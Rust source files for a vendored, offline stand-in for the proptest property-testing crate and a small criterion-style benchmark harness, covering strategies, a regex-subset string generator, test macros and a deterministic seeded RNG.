        F: FnMut(&mut Bencher),
    {
        if let Some(filter) = &self.filter {
            if !name.contains(filter.as_str()) {
                return;
            }
        }
        let mut b = Bencher {
            mode: self.mode,
            measure_for: self.measure_for,
            result: None,
        };
        f(&mut b);
        match (self.mode, b.result) {
            (Mode::Test, _) => println!("test {name} ... ok (single pass)"),
            (Mode::Bench, Some(per_iter)) => {
                let rate = throughput.and_then(|t| {
                    let secs = per_iter.as_secs_f64();
                    if secs <= 0.0 {
                        return None;
                    }
                    Some(match t {
                        Throughput::Elements(n) => format!(" ({:.3} Melem/s)", n as f64 / secs / 1e6),
                        Throughput::Bytes(n) | Throughput::BytesDecimal(n) => {
                            format!(" ({:.3} MiB/s)", n as f64 / secs / (1024.0 * 1024.0))
                        }
                    })
                });
                println!(
                    "bench {name:<50} {:>12}/iter{}",
                    format_duration(per_iter),
                    rate.unwrap_or_default()
                );
            }
            (Mode::Bench, None) => println!("bench {name} ... no measurement"),
        }
    }
}

fn format_duration(d: Duration) -> String {
    let ns = d.as_nanos();
    if ns < 1_000 {
        format!("{ns} ns")
    } else if ns < 1_000_000 {
        format!("{:.2} µs", ns as f64 / 1e3)
    } else if ns < 1_000_000_000 {
        format!("{:.2} ms", ns as f64 / 1e6)
    } else {
        format!("{:.2} s", ns as f64 / 1e9)
    }
}

pub struct BenchmarkGroup<'a> {
    c: &'a mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    pub fn measurement_time(&mut self, d: Duration) -> &mut Self {
        self.c.measure_for = d;
        self
    }

    pub fn bench_function<F>(&mut self, name: impl Into<String>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, name.into());
        let throughput = self.throughput;
        self.c.run_one(&full, throughput, &mut f);
        self
    }

    pub fn finish(self) {}
}

pub struct Bencher {
    mode: Mode,
    measure_for: Duration,
    result: Option<Duration>,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        if self.mode == Mode::Test {
            black_box(f());
            return;
        }
        // Warm-up + calibration pass.
        let t0 = Instant::now();
        black_box(f());
        let first = t0.elapsed().max(Duration::from_nanos(1));

        // Aim for the time budget, capped to keep heavyweight bodies sane.
        let iters = (self.measure_for.as_nanos() / first.as_nanos()).clamp(1, 10_000) as u64;
        let start = Instant::now();
        for _ in 0..iters {
            black_box(f());
        }
        let total = start.elapsed();
        self.result = Some(total / iters as u32);
    }
}

#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut c = $crate::Criterion::default();
            $($target(&mut c);)+
        }
    };
    (name = $group:ident; config = $cfg:expr; targets = $($target:path),+ $(,)?) => {
        fn $group() {
            let mut c = $cfg;
            $($target(&mut c);)+
        }
    };
}

#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}
