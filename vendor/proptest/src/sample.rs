//! Sampling helpers: `select` and `Index`.

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

/// Uniformly pick one of the given values.
pub struct Select<T: Clone>(Vec<T>);

pub fn select<T: Clone>(options: Vec<T>) -> Select<T> {
    assert!(!options.is_empty(), "sample::select needs options");
    Select(options)
}

impl<T: Clone> Strategy for Select<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        self.0[rng.gen_range(0..self.0.len())].clone()
    }
}

/// An abstract index into a collection of as-yet-unknown size.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Index(u64);

impl Index {
    pub(crate) fn new(raw: u64) -> Index {
        Index(raw)
    }

    /// Resolve against a concrete collection size (`len > 0`).
    pub fn index(&self, len: usize) -> usize {
        assert!(len > 0, "Index::index on empty collection");
        (self.0 % len as u64) as usize
    }
}
