//! A generator for the regex subset proptest string strategies use here.
//!
//! Supported syntax: literals, `.` (printable ASCII), escapes
//! (`\n \r \t \\ \. \- \/ \d \w \s` and `\PC` = printable), character
//! classes `[...]` with ranges and leading-`^` negation, groups `(...)`,
//! alternation `|`, and the quantifiers `? * + {m} {m,} {m,n}`.
//! Unbounded quantifiers are capped at 8 repetitions.

use crate::test_runner::TestRng;
use rand::Rng;

const PRINTABLE: &str =
    " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~";

#[derive(Debug, Clone)]
enum Node {
    Lit(char),
    Class(Vec<char>),
    Seq(Vec<Node>),
    Alt(Vec<Node>),
    Rep(Box<Node>, u32, u32),
}

pub fn generate(pattern: &str, rng: &mut TestRng) -> String {
    let chars: Vec<char> = pattern.chars().collect();
    let mut pos = 0;
    let node = parse_alt(&chars, &mut pos);
    assert!(
        pos == chars.len(),
        "unsupported regex pattern {pattern:?} (stopped at {pos})"
    );
    let mut out = String::new();
    sample(&node, rng, &mut out);
    out
}

fn sample(node: &Node, rng: &mut TestRng, out: &mut String) {
    match node {
        Node::Lit(c) => out.push(*c),
        Node::Class(chars) => {
            out.push(chars[rng.gen_range(0..chars.len())]);
        }
        Node::Seq(items) => {
            for item in items {
                sample(item, rng, out);
            }
        }
        Node::Alt(branches) => {
            sample(&branches[rng.gen_range(0..branches.len())], rng, out);
        }
        Node::Rep(inner, lo, hi) => {
            let n = rng.gen_range(*lo..=*hi);
            for _ in 0..n {
                sample(inner, rng, out);
            }
        }
    }
}

// ---- parser ----

fn parse_alt(chars: &[char], pos: &mut usize) -> Node {
    let mut branches = vec![parse_seq(chars, pos)];
    while chars.get(*pos) == Some(&'|') {
        *pos += 1;
        branches.push(parse_seq(chars, pos));
    }
    if branches.len() == 1 {
        branches.pop().unwrap()
    } else {
        Node::Alt(branches)
    }
}

fn parse_seq(chars: &[char], pos: &mut usize) -> Node {
    let mut items = Vec::new();
    while let Some(&c) = chars.get(*pos) {
        if c == '|' || c == ')' {
            break;
        }
        let atom = parse_atom(chars, pos);
        let atom = parse_quantifier(chars, pos, atom);
        items.push(atom);
    }
    Node::Seq(items)
}

fn parse_atom(chars: &[char], pos: &mut usize) -> Node {
    let c = chars[*pos];
    *pos += 1;
    match c {
        '(' => {
            let inner = parse_alt(chars, pos);
            assert_eq!(chars.get(*pos), Some(&')'), "unclosed group");
            *pos += 1;
            inner
        }
        '[' => parse_class(chars, pos),
        '\\' => parse_escape(chars, pos),
        '.' => Node::Class(PRINTABLE.chars().collect()),
        c => Node::Lit(c),
    }
}

fn parse_escape(chars: &[char], pos: &mut usize) -> Node {
    let c = chars[*pos];
    *pos += 1;
    match c {
        'n' => Node::Lit('\n'),
        'r' => Node::Lit('\r'),
        't' => Node::Lit('\t'),
        'd' => Node::Class(('0'..='9').collect()),
        'w' => Node::Class(
            ('a'..='z')
                .chain('A'..='Z')
                .chain('0'..='9')
                .chain(std::iter::once('_'))
                .collect(),
        ),
        's' => Node::Class(vec![' ', '\t']),
        // \PC (not-a-control-character) and \pC (control); generate
        // printable ASCII for the former, a tab for the latter.
        'P' => {
            let cat = chars[*pos];
            *pos += 1;
            assert_eq!(cat, 'C', "unsupported \\P category {cat:?}");
            Node::Class(PRINTABLE.chars().collect())
        }
        'p' => {
            let cat = chars[*pos];
            *pos += 1;
            assert_eq!(cat, 'C', "unsupported \\p category {cat:?}");
            Node::Lit('\t')
        }
        c => Node::Lit(c),
    }
}

fn parse_class(chars: &[char], pos: &mut usize) -> Node {
    let negate = chars.get(*pos) == Some(&'^');
    if negate {
        *pos += 1;
    }
    let mut members: Vec<char> = Vec::new();
    let mut first = true;
    while let Some(&c) = chars.get(*pos) {
        if c == ']' && !first {
            *pos += 1;
            let set = if negate {
                PRINTABLE.chars().filter(|c| !members.contains(c)).collect()
            } else {
                members
            };
            assert!(!set.is_empty(), "empty character class");
            return Node::Class(set);
        }
        first = false;
        let lo = if c == '\\' {
            *pos += 1;
            let e = chars[*pos];
            *pos += 1;
            match e {
                'n' => '\n',
                'r' => '\r',
                't' => '\t',
                other => other,
            }
        } else {
            *pos += 1;
            c
        };
        // Range `a-z` (a trailing '-' is a literal).
        if chars.get(*pos) == Some(&'-') && chars.get(*pos + 1).is_some_and(|&n| n != ']') {
            *pos += 1;
            let hi = chars[*pos];
            *pos += 1;
            for v in lo..=hi {
                members.push(v);
            }
        } else {
            members.push(lo);
        }
    }
    panic!("unclosed character class");
}

fn parse_quantifier(chars: &[char], pos: &mut usize, atom: Node) -> Node {
    match chars.get(*pos) {
        Some('?') => {
            *pos += 1;
            Node::Rep(Box::new(atom), 0, 1)
        }
        Some('*') => {
            *pos += 1;
            Node::Rep(Box::new(atom), 0, 8)
        }
        Some('+') => {
            *pos += 1;
            Node::Rep(Box::new(atom), 1, 8)
        }
        Some('{') => {
            *pos += 1;
            let mut lo = 0u32;
            while chars[*pos].is_ascii_digit() {
                lo = lo * 10 + chars[*pos].to_digit(10).unwrap();
                *pos += 1;
            }
            let hi = if chars[*pos] == ',' {
                *pos += 1;
                if chars[*pos] == '}' {
                    lo + 8
                } else {
                    let mut h = 0u32;
                    while chars[*pos].is_ascii_digit() {
                        h = h * 10 + chars[*pos].to_digit(10).unwrap();
                        *pos += 1;
                    }
                    h
                }
            } else {
                lo
            };
            assert_eq!(chars[*pos], '}', "unclosed quantifier");
            *pos += 1;
            Node::Rep(Box::new(atom), lo, hi)
        }
        _ => atom,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_runner::rng_for_test;

    fn gen_many(pattern: &str) -> Vec<String> {
        let mut rng = rng_for_test("regex-smoke");
        (0..50).map(|_| generate(pattern, &mut rng)).collect()
    }

    #[test]
    fn shapes() {
        for s in gen_many("[a-z][a-z0-9.-]{0,20}") {
            assert!(!s.is_empty() && s.len() <= 21, "{s:?}");
            assert!(s.chars().next().unwrap().is_ascii_lowercase());
        }
        for s in gen_many("(PLAIN|ANONYMOUS|PLAIN AMQPLAIN)") {
            assert!(["PLAIN", "ANONYMOUS", "PLAIN AMQPLAIN"].contains(&s.as_str()));
        }
        for s in gen_many("[0-9]\\.[0-9]\\.[0-9]") {
            assert_eq!(s.len(), 5);
            assert_eq!(s.chars().nth(1), Some('.'));
        }
        for s in gen_many("\\PC{0,16}") {
            assert!(s.len() <= 16);
            assert!(s.chars().all(|c| (' '..='~').contains(&c)));
        }
        for s in gen_many("[ -~]{1,20}") {
            assert!((1..=20).contains(&s.len()));
        }
        for s in gen_many("[a-zA-Z0-9./-]([a-zA-Z0-9 ./-]{0,38}[a-zA-Z0-9./-])?") {
            assert!(!s.is_empty());
        }
    }
}
