//! The `Strategy` trait and combinators.

use std::ops::{Range, RangeInclusive};

use crate::test_runner::TestRng;
use rand::Rng;

/// A generator of values of `Self::Value`. No shrinking.
pub trait Strategy {
    type Value;

    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    fn prop_map<T, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> T,
    {
        Map { inner: self, f }
    }

    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

pub type BoxedStrategy<T> = Box<dyn Strategy<Value = T>>;

impl<T> Strategy for Box<dyn Strategy<Value = T>> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        (**self).generate(rng)
    }
}

impl<S: Strategy + ?Sized> Strategy for &S {
    type Value = S::Value;
    fn generate(&self, rng: &mut TestRng) -> S::Value {
        (**self).generate(rng)
    }
}

/// Always produces a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// `prop_map` combinator.
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, F, T> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> T,
{
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        (self.f)(self.inner.generate(rng))
    }
}

/// `prop_oneof!` support: pick one of several boxed strategies.
pub struct Union<T> {
    branches: Vec<(u32, BoxedStrategy<T>)>,
    total: u64,
}

impl<T> Union<T> {
    pub fn new(branches: Vec<BoxedStrategy<T>>) -> Union<T> {
        Self::weighted(branches.into_iter().map(|b| (1, b)).collect())
    }

    pub fn weighted(branches: Vec<(u32, BoxedStrategy<T>)>) -> Union<T> {
        assert!(!branches.is_empty(), "prop_oneof! needs at least one branch");
        let total = branches.iter().map(|(w, _)| *w as u64).sum::<u64>().max(1);
        Union { branches, total }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        let mut pick = rng.gen_range(0..self.total);
        for (w, s) in &self.branches {
            if pick < *w as u64 {
                return s.generate(rng);
            }
            pick -= *w as u64;
        }
        self.branches.last().unwrap().1.generate(rng)
    }
}

// ---- ranges as strategies ----

macro_rules! range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}
range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Strategy for Range<f64> {
    type Value = f64;
    fn generate(&self, rng: &mut TestRng) -> f64 {
        rng.gen_range(self.clone())
    }
}

// ---- regex-subset string literals as strategies ----

impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        crate::regex::generate(self, rng)
    }
}

impl Strategy for String {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        crate::regex::generate(self, rng)
    }
}

// ---- tuples of strategies ----

macro_rules! tuple_strategy {
    ($(($($s:ident . $idx:tt),+),)*) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )*};
}
tuple_strategy! {
    (A.0),
    (A.0, B.1),
    (A.0, B.1, C.2),
    (A.0, B.1, C.2, D.3),
    (A.0, B.1, C.2, D.3, E.4),
    (A.0, B.1, C.2, D.3, E.4, F.5),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9, K.10),
    (A.0, B.1, C.2, D.3, E.4, F.5, G.6, H.7, I.8, J.9, K.10, L.11),
}
