//! `option::of`.

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

pub struct OptionStrategy<S>(S);

pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
    OptionStrategy(inner)
}

impl<S: Strategy> Strategy for OptionStrategy<S> {
    type Value = Option<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Option<S::Value> {
        // Match proptest's default: None with probability 1/4.
        if rng.gen_range(0u32..4) == 0 {
            None
        } else {
            Some(self.0.generate(rng))
        }
    }
}
