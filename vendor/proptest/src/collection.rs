//! Collection strategies (`vec`).

use std::ops::{Range, RangeInclusive};

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

/// A size specification accepted by [`vec`].
#[derive(Debug, Clone, Copy)]
pub struct SizeRange {
    lo: usize,
    hi_incl: usize,
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> SizeRange {
        SizeRange { lo: n, hi_incl: n }
    }
}

impl From<Range<usize>> for SizeRange {
    fn from(r: Range<usize>) -> SizeRange {
        assert!(r.start < r.end, "empty size range");
        SizeRange {
            lo: r.start,
            hi_incl: r.end - 1,
        }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(r: RangeInclusive<usize>) -> SizeRange {
        SizeRange {
            lo: *r.start(),
            hi_incl: *r.end(),
        }
    }
}

pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy {
        element,
        size: size.into(),
    }
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let len = rng.gen_range(self.size.lo..=self.size.hi_incl);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}
