//! Offline vendored stand-in for `proptest`.
//!
//! Implements the subset of the proptest API this workspace uses, without
//! shrinking: each `proptest!` test runs `cases` deterministic samples (the
//! RNG is seeded from the test's name, so runs are reproducible and
//! independent of `--test-threads`). Failures surface as ordinary panics
//! from `prop_assert*`, which report the concrete failing values.
//!
//! Supported strategy surface: `any::<T>()` for primitives and
//! `sample::Index`, integer ranges, regex-subset string literals,
//! `Just`, `prop_map`, tuples, `collection::vec`, `option::of`,
//! `sample::select`, and `prop_oneof!`.

pub mod arbitrary;
pub mod collection;
pub mod option;
pub mod regex;
pub mod sample;
pub mod strategy;
pub mod test_runner;

pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};

    /// The conventional `prop::` alias for the crate root.
    pub use crate as prop;
}

// ---- macros ----

/// Define property tests. Each function samples its strategies `cases`
/// times with a name-seeded deterministic RNG.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!{ @cfg ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!{ @cfg ($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (@cfg ($cfg:expr)) => {};
    (@cfg ($cfg:expr)
     $(#[$meta:meta])*
     fn $name:ident($($arg:ident in $strat:expr),* $(,)?) $body:block
     $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let __pt_cfg: $crate::test_runner::ProptestConfig = $cfg;
            let mut __pt_rng = $crate::test_runner::rng_for_test(concat!(
                module_path!(), "::", stringify!($name)
            ));
            for __pt_case in 0..__pt_cfg.cases {
                let _ = __pt_case;
                $(let $arg = $crate::strategy::Strategy::generate(&$strat, &mut __pt_rng);)*
                $body
            }
        }
        $crate::__proptest_impl!{ @cfg ($cfg) $($rest)* }
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)*) => { assert!($cond, $($fmt)*) };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_eq!($a, $b, $($fmt)*) };
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)*) => { assert_ne!($a, $b, $($fmt)*) };
}

/// Uniform (or weighted — weights are respected) choice among strategies.
#[macro_export]
macro_rules! prop_oneof {
    ($($weight:expr => $strat:expr),+ $(,)?) => {{
        let mut __branches: Vec<(u32, Box<dyn $crate::strategy::Strategy<Value = _>>)> = Vec::new();
        $(__branches.push(($weight as u32, Box::new($strat)));)+
        $crate::strategy::Union::weighted(__branches)
    }};
    ($($strat:expr),+ $(,)?) => {{
        let mut __branches: Vec<Box<dyn $crate::strategy::Strategy<Value = _>>> = Vec::new();
        $(__branches.push(Box::new($strat));)+
        $crate::strategy::Union::new(__branches)
    }};
}
