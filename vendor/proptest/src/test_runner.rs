//! Test configuration and the deterministic per-test RNG.

use rand::rngs::StdRng;
use rand::SeedableRng;

/// The RNG handed to strategies. Seeded from the test's module path and
/// name, so every run (and every `--test-threads` setting) samples the
/// same sequence.
pub type TestRng = StdRng;

pub fn rng_for_test(name: &str) -> TestRng {
    // FNV-1a over the test name, finalized like SplitMix64.
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    StdRng::seed_from_u64(h)
}

/// Runner configuration. Only `cases` is honoured.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    pub cases: u32,
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        ProptestConfig { cases: 64 }
    }
}
