//! `any::<T>()` and the `Arbitrary` trait.

use std::marker::PhantomData;

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

/// Types with a canonical whole-domain strategy.
pub trait Arbitrary {
    fn arbitrary(rng: &mut TestRng) -> Self;
}

/// Strategy over the whole domain of `T`.
pub struct Any<T>(PhantomData<T>);

pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

macro_rules! arb_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> $t {
                rng.gen::<$t>()
            }
        }
    )*};
}
arb_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        rng.gen::<bool>()
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> f64 {
        rng.gen::<f64>()
    }
}

impl Arbitrary for f32 {
    fn arbitrary(rng: &mut TestRng) -> f32 {
        rng.gen::<f32>()
    }
}

impl Arbitrary for char {
    fn arbitrary(rng: &mut TestRng) -> char {
        rng.gen::<char>()
    }
}

impl Arbitrary for crate::sample::Index {
    fn arbitrary(rng: &mut TestRng) -> crate::sample::Index {
        crate::sample::Index::new(rng.gen::<u64>())
    }
}
